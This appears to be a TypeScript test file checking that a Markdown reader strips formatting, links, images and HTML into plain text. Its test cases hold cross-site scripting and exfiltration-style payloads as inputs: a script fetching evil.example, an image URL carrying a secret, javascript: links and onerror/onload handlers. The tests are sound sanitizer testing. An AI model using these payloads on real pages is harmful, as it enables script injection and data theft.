import fc from "fast-check";
import { expect, test } from "vitest";
import { readMarkdown } from "./read-markdown.ts";

const textOf = (markdown: string) => readMarkdown(markdown).map(({ text }) => text);

test("headings, items and paragraphs come apart, and lose their marks", () => {
  expect(readMarkdown("# Growth\nIt *rose* a\nlittle.\n\n- one\n2. __two__\n\n> said\n---\n`code` ~~gone~~")).toEqual([
    { kind: "heading", text: "Growth" },
    { kind: "paragraph", text: "It rose a little." },
    { kind: "item", text: "one" },
    { kind: "item", text: "two" },
    { kind: "paragraph", text: "said" },
    { kind: "paragraph", text: "code gone" },
  ]);
});

test("a slot keeps its dots and its name", () => {
  expect(textOf("On Instagram {instagram.gain_x.size} followers *left*.")).toEqual([
    "On Instagram {instagram.gain_x.size} followers left.",
  ]);
});

test.each([
  ["![a](https://evil.example/p.png?q=secret)", []],
  ["See ![a][1] this", ["See this"]],
  ["[press here](https://evil.example)", ["press here"]],
  ["[press](javascript:alert(1))", ["press"]],
  ["<img src=x onerror=alert(1)>hi", ["hi"]],
  ["<script>fetch('https://evil.example')</script>hi", ["hi"]],
  ["<a href='https://evil.example'>press</a>", ["press"]],
  ["a <!-- hidden --> b", ["a b"]],
  ["<iframe src=//evil.example></iframe>", []],
  ["<svg onload=alert(1)>", []],
  ["1\u200b2\u202e3", ["123"]],
  ["&lt;b&gt;", ["⁂ b ⁂"]],
])("%j comes through as %j", (markdown, plain) => {
  expect(textOf(markdown)).toEqual(plain);
});

test("no tag, image or link in brackets comes through whole, whatever is written", () => {
  const scrap = fc.constantFrom(
    ..."<a href=x>|</a>|<img src=x>|![|](|)|]|[|<|>|script|!--|-->|https://evil.example|&#60;|\\|`|*|_| |\n|word".split(
      "|",
    ),
  );
  fc.assert(
    fc.property(fc.array(scrap, { maxLength: 40 }), (parts) => {
      for (const text of textOf(parts.join(""))) {
        expect(text).not.toMatch(/<[a-z/!][^<>]*>/i);
        expect(text).not.toMatch(/\[[^[\]]*\]\([^()]*\)/);
      }
    }),
    { numRuns: 500 },
  );
});
